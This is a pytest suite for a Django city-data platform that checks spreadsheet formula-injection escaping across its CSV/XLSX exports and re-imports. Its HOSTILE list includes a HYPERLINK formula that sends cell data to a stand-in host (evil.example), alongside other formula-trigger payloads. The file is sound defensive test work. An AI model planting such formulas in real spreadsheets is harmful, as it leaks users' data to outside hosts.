"""Spreadsheet safety (``ingest.cells``): the rule itself, then every CSV/XLSX export through its real
view or command — hostile text escaped, numbers and HXL hashtag rows untouched — and the 4W and
observation exports imported back."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.management import call_command
from django.test import Client

from safercities.audit.trail import record
from safercities.crises import fourw
from safercities.crises.models import Activity, Scenario
from safercities.crises.tests.factories import SHEET, build_crisis
from safercities.indicators.importers import import_observations
from safercities.indicators.models import Indicator, Observation
from safercities.ingest.cells import TRIGGERS, csv_writer, safe_cell, unescape_cell
from safercities.places.actions import create_city
from safercities.places.models import Area
from safercities.portal.tests.factories import build_small_city
from safercities.surveys import actions as survey_actions
from safercities.surveys.models import SurveyResponse

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


# --- the rule --------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_gets_one_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_trigger_character_alone_is_escaped(trigger):
    assert safe_cell(trigger) == "'" + trigger


@pytest.mark.parametrize(
    "value",
    [-5, -2.5, 0, 3, Decimal("-1.25"), None, True, False, dt.date(2024, 1, 2), dt.datetime(2024, 1, 2, tzinfo=dt.UTC)],
)
def test_numbers_dates_booleans_and_blanks_are_returned_as_they_are(value):
    # The same object back: a real negative number stays a number (and in XLSX a numeric cell).
    assert safe_cell(value) is value


def test_text_that_looks_like_a_negative_number_is_text_and_escaped():
    assert safe_cell("-5") == "'-5"


@pytest.mark.parametrize(
    "text", ["#indicator+code", "#adm+code", "#reached+f+children", "", "Centro", "5-7", "a=b", "'quoted'", "'"]
)
def test_harmless_text_and_hxl_hashtags_are_untouched(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", [*HOSTILE, "'=x", "''=x", "'-", "'hello", "'", "''", "plain", "#adm+code", ""])
def test_unescape_gives_back_exactly_the_exported_text(text):
    assert unescape_cell(safe_cell(text)) == text


def test_unescape_removes_one_quote_and_only_before_a_trigger():
    assert unescape_cell("'=1") == "=1"
    assert unescape_cell("''=1") == "'=1"  # exactly one
    assert unescape_cell("'hello") == "'hello"  # the quote was the resident's own
    assert unescape_cell("'") == "'"
    assert unescape_cell(7) == 7 and unescape_cell(None) is None


def test_csv_writer_keeps_a_carriage_return_inside_its_row():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["a", "note\r=HYPERLINK(1)", 2])
    writer.writerows([["b", "plain", -3]])
    assert csv_rows(out.getvalue()) == [["a", "note\r=HYPERLINK(1)", "2"], ["b", "plain", "-3"]]
    assert out.getvalue().endswith("\nb,plain,-3\n")  # other rows as csv.writer writes them


# --- helpers ---------------------------------------------------------------------------------------


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def body(response) -> str:
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_cells(content: bytes) -> list[list]:
    """Every cell as (value, data_type): 'f' would be a formula, 'n' a number, 's' text."""
    workbook = openpyxl.load_workbook(io.BytesIO(content), read_only=True, data_only=False)
    return [[(cell.value, cell.data_type) for cell in row] for row in workbook.worksheets[0].iter_rows()]


def no_formula(cells: list[list]) -> bool:
    return all(kind != "f" for row in cells for _value, kind in row)


# --- portal downloads (portal/downloads.py) --------------------------------------------------------


@pytest.fixture
def small(city):
    return build_small_city(city)


def test_portal_area_download_csv_and_xlsx_are_escaped(client, small, city):
    Area.objects.filter(city=city, code="A1").update(name=HOSTILE[0])
    Area.objects.filter(city=city, code="A2").update(name="-2+3")
    rows = csv_rows(body(client.get("/en/cities/testville/download/areas.csv")))
    assert rows[1][:3] == ["#adm+code", "#adm+name", "#adm+level"]  # the HXL row as it was
    names = {row[0]: row[1] for row in rows[2:]}
    assert names["A1"] == "'" + HOSTILE[0] and names["A2"] == "'-2+3" and names["A3"] == "Centro Claro"

    cells = xlsx_cells(client.get("/en/cities/testville/download/areas.xlsx").content)
    assert no_formula(cells)
    assert [value for value, _kind in cells[1][:2]] == ["#adm+code", "#adm+name"]
    by_code = {row[0][0]: row for row in cells[2:]}
    assert by_code["A1"][1] == ("'" + HOSTILE[0], "s")
    lat_value, lat_kind = by_code["A1"][4]
    assert lat_kind == "n" and isinstance(lat_value, float)  # numbers stay numbers


def test_portal_observation_download_escapes_the_source(client, small, city):
    Observation.objects.filter(city=city, indicator__code="fire-incidents").update(source="@SUM(A1)")
    rows = csv_rows(body(client.get("/en/cities/testville/download/observations.csv?indicator=fire-incidents")))
    header = rows[0]
    sources = {row[header.index("source")] for row in rows[2:]}
    assert sources == {"'@SUM(A1)"}


# --- the export command (ingest/exports.py) --------------------------------------------------------


@pytest.fixture
def negative(city, small):
    """One observation with a negative value and a hostile source."""
    indicator = Indicator.objects.get(city=city, code="unemployment-rate")
    area = Area.objects.get(city=city, code="A1")
    Observation.objects.filter(city=city).exclude(indicator=indicator, area=area, period="2023").delete()
    Observation.objects.filter(city=city).update(value=-2.5, source="=HYPERLINK(1)", numerator=None, denominator=None)
    return indicator


def test_export_command_csv_and_xlsx_are_escaped_and_keep_numbers(negative, tmp_path):
    out = io.StringIO()
    call_command("export", "observations", "--city", "testville", "--format", "hxl", stdout=out, stderr=io.StringIO())
    rows = csv_rows(out.getvalue())
    assert rows[1][0] == "#indicator+code" and all(tag.startswith("#") for tag in rows[1])
    data = dict(zip(rows[0], rows[2], strict=True))
    assert data["source"] == "'=HYPERLINK(1)"
    assert data["value"] == "-2.5"  # a number, not text: written without a quote

    path = tmp_path / "observations.xlsx"
    call_command(
        "export", "observations", "--city", "testville", "--format", "xlsx", "--output", str(path), stderr=io.StringIO()
    )
    cells = xlsx_cells(path.read_bytes())
    assert no_formula(cells)
    names = [value for value, _kind in cells[0]]
    row = dict(zip(names, cells[2], strict=True))
    assert row["source"] == ("'=HYPERLINK(1)", "s")
    assert row["value"] == (-2.5, "n")


def test_exported_observations_import_back_with_their_negative_value(negative, city, tmp_path):
    path = tmp_path / "observations.csv"
    call_command(
        "export", "observations", "--city", "testville", "--format", "hxl", "--output", str(path), stderr=io.StringIO()
    )
    fresh = create_city(slug="copyville", name="Copyville", country="MX")
    for area in Area.objects.filter(city=city, parent__isnull=True):
        top = Area.objects.create(city=fresh, code=area.code, name=area.name, level=area.level)
    for area in Area.objects.filter(city=city, parent__isnull=False):
        Area.objects.create(city=fresh, code=area.code, name=area.name, level=area.level, parent=top)
    report = import_observations(fresh, path)
    assert report.ok, report.errors
    copy = Observation.objects.get(city=fresh)
    assert (copy.indicator.code, copy.area.code, copy.period, copy.value) == ("unemployment-rate", "A1", "2023", -2.5)


# --- the audit log (audit/views.py) ----------------------------------------------------------------


def test_audit_csv_escapes_every_text_cell(city, alice):
    record(
        action="update",
        user=alice,
        city=city,
        model_label="places.area",
        object_id="-1+2",
        object_repr="@SUM(A1)",
        before={"name": "=HYPERLINK(1)"},
    )
    rows = csv_rows(body(client_for(alice).get("/en/audit/testville/events.csv?model=places.area")))
    assert len(rows) == 2, rows
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["record_id"] == "'-1+2" and row["record"] == "'@SUM(A1)"
    assert row["before"].startswith("{")  # JSON: starts with a brace, nothing to escape
    assert row["user"] == "alice"


# --- survey results (surveys/views.py) -------------------------------------------------------------


def test_survey_results_csv_escapes_names_and_keeps_numbers(city, small, ana):
    survey = survey_actions.create_round(city=city, title="Round", period="2026-q1", area_level="neighbourhood")
    a2 = Area.objects.get(city=city, code="A2")
    a2.name = "+1+1"
    a2.save(update_fields=["name"])
    base = {"day_feeling": "safe", "night_feeling": "unsafe", "harassment": "no", "disability": "without_disability"}
    SurveyResponse.objects.bulk_create(
        [
            SurveyResponse(
                city=city,
                round=survey,
                area=a2,
                submitted_on=dt.date(2026, 2, 1),
                sex="female",
                age_group="30-59",
                **base,
            )
            for _ in range(30)
        ]
    )
    text = body(client_for(ana).get(f"/en/surveys/testville/manage/{survey.pk}/results.csv"))
    rows = csv_rows(text)
    assert rows[1][0] == "#indicator+code"
    data = [dict(zip(rows[0], row, strict=True)) for row in rows[2:]]
    mine = [row for row in data if row["area"] == "A2"]
    assert mine and all(row["area_name"] == "'+1+1" for row in mine)
    published = [row for row in mine if row["withheld"] == "false"]
    assert published and all(row["respondents"].isdigit() for row in published)


# --- crises: 4W (crises/fourw.py) and allocation scenarios (crises/views.py) -----------------------


@pytest.fixture
def world(city):
    return build_crisis(city)


def _hostile_activities(crisis, tmp_path: Path, *, carriage_returns: bool = True) -> dict[str, tuple[str, str, str]]:
    """The test sheet with hostile descriptions and organisations; a workbook turns CR into LF (XML), so
    ``carriage_returns=False`` leaves them out."""
    path = tmp_path / "sheet.csv"
    path.write_text(SHEET, encoding="utf-8")
    assert fourw.import_sheet(crisis, path).ok
    activities = list(crisis.activities.select_related("organisation").order_by("ref"))
    assert len(activities) == 4
    cr = "\r" if carriage_returns else ""
    for activity, text in zip(activities, [HOSTILE[0], "\t=1", cr + "=1", "''=x"], strict=True):
        activity.description = text
        activity.save(update_fields=["description"])
    organisations = sorted({a.organisation for a in activities}, key=lambda o: o.pk)
    names = [("-2+3", "@SUM(A1)"), ("+1+1", "-"), (f"Refugio{cr}=HYPERLINK(1)", "RU")]
    for org, (name, acronym) in zip(organisations, names, strict=True):
        org.name, org.acronym = name, acronym
        org.save(update_fields=["name", "acronym"])
    return _stored(crisis)


def _stored(crisis) -> dict[str, tuple[str, str, str]]:
    return {
        a.ref: (a.description, a.organisation.name, a.organisation.acronym)
        for a in crisis.activities.select_related("organisation")
    }


def test_4w_csv_export_is_escaped_and_imports_back_unchanged(world, ana, tmp_path):
    crisis = world["crisis"]
    stored = _hostile_activities(crisis, tmp_path)
    url = f"/en/crises/testville/{crisis.pk}/4w/export.csv"
    first = body(client_for(ana).get(url))
    rows = csv_rows(first)
    # Four activities, four rows: the carriage return inside "Refugio\r=HYPERLINK(1)" did not split one.
    assert len(rows) == 2 + 4 and {len(row) for row in rows} == {len(fourw.COLUMNS)}
    assert rows[1] == [c.tag for c in fourw.COLUMNS]
    for row in rows[2:]:
        for value in row:
            assert not value.startswith(TRIGGERS), value
    reached = [row[-1] for row in rows[2:]]
    assert all(value.isdigit() for value in reached)
    # Back in: the same stored text (the quote is taken off), nothing changed, the same file again.
    path = tmp_path / "export.csv"
    path.write_text(first, encoding="utf-8")
    report = fourw.import_sheet(crisis, path)
    assert report.ok and (report.created, report.updated, report.unchanged) == (0, 0, 4), report.errors
    crisis.activities.all().delete()
    assert fourw.import_sheet(crisis, path).created == 4
    assert _stored(crisis) == stored
    assert body(client_for(ana).get(url)) == first


def test_4w_xlsx_export_has_no_formula_and_imports_back_unchanged(world, ana, tmp_path):
    crisis = world["crisis"]
    stored = _hostile_activities(crisis, tmp_path, carriage_returns=False)
    content = client_for(ana).get(f"/en/crises/testville/{crisis.pk}/4w/export.xlsx").content
    cells = xlsx_cells(content)
    assert no_formula(cells)
    assert [value for value, _kind in cells[1]] == [c.tag for c in fourw.COLUMNS]
    descriptions = {row[0][0]: row[5][0] for row in cells[2:]}
    assert descriptions[Activity.objects.get(crisis=crisis, description=HOSTILE[0]).ref] == "'" + HOSTILE[0]
    assert all(kind == "n" for row in cells[2:] for _value, kind in row[11:])  # people reached: numbers
    path = tmp_path / "export.xlsx"
    path.write_bytes(content)
    crisis.activities.all().delete()
    report = fourw.import_sheet(crisis, path)
    assert report.ok and report.created == 4, report.errors
    assert _stored(crisis) == stored


def test_scenario_export_csv_and_xlsx_are_escaped(world, ana, city):
    Area.objects.filter(city=city, code="A1").update(name="=HYPERLINK(1)")
    crisis = world["crisis"]
    scenario = Scenario.objects.create(city=city, crisis=crisis, name="Need", budget=Decimal("100000"))
    url = f"/en/crises/testville/{crisis.pk}/allocation/{scenario.pk}/export."
    client = client_for(ana)
    rows = csv_rows(body(client.get(url + "csv")))
    assert rows[1][:2] == ["#adm2+code", "#adm2+name"]
    names = {row[0]: row[1] for row in rows[2:]}
    assert names["A1"] == "'=HYPERLINK(1)"
    cells = xlsx_cells(client.get(url + "xlsx").content)
    assert no_formula(cells)
    by_code = {row[0][0]: row for row in cells[2:]}
    assert by_code["A1"][1] == ("'=HYPERLINK(1)", "s")
    assert all(by_code["A1"][i][1] == "n" for i in (2, 3, 6))  # need, population, amount


@pytest.mark.django_db
@pytest.mark.parametrize("fast", [True, False], ids=["fast path", "csv path"])
def test_incidents_importer_takes_the_guard_off_on_both_paths(city, fast, tmp_path, monkeypatch):
    """The incidents importer's fast reader (pandas) and its csv fallback store the same text."""
    from safercities.incidents import importers
    from safercities.incidents.models import Incident
    from safercities.places.models import Area

    Area.objects.create(
        city=city, code="Q1", name="Q", level="neighbourhood",
        geometry={"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 1], [0, 0]]]},
    )  # fmt: skip
    used = []
    fast_reader = importers._validate_fast

    def reader(*args, **kwargs):
        used.append("fast")
        if not fast:
            raise importers._Fallback
        return fast_reader(*args, **kwargs)

    monkeypatch.setattr(importers, "_validate_fast", reader)
    path = tmp_path / "incidents.csv"
    path.write_text(
        "id,time,category,lat,lon\n'=A1,2024-01-01,fire,0.5,0.5\n'-2,2024-01-01,fire,0.5,0.5\n"
        "'hello,2024-01-01,fire,0.5,0.5\n",
        encoding="utf-8",
    )
    report = importers.import_incidents(city, path)
    assert report.ok, report.errors
    assert used == ["fast"]
    assert sorted(Incident.objects.values_list("external_id", flat=True)) == ["'hello", "-2", "=A1"]


@pytest.mark.django_db
def test_area_names_exported_escaped_come_back_as_stored(city, tmp_path):
    """An area named ``=HYPERLINK(…)`` is exported escaped and the area importer reads the name back."""
    import json

    from safercities.places.importers import import_areas
    from safercities.places.models import Area

    square = {"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 1], [0, 0]]]}
    features = [{"type": "Feature", "properties": {"code": "Z1", "name": '\'=HYPERLINK("x")'}, "geometry": square}]
    path = tmp_path / "areas.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    assert import_areas(city, path, level="neighbourhood").ok
    assert Area.objects.get(city=city, code="Z1").name == '=HYPERLINK("x")'
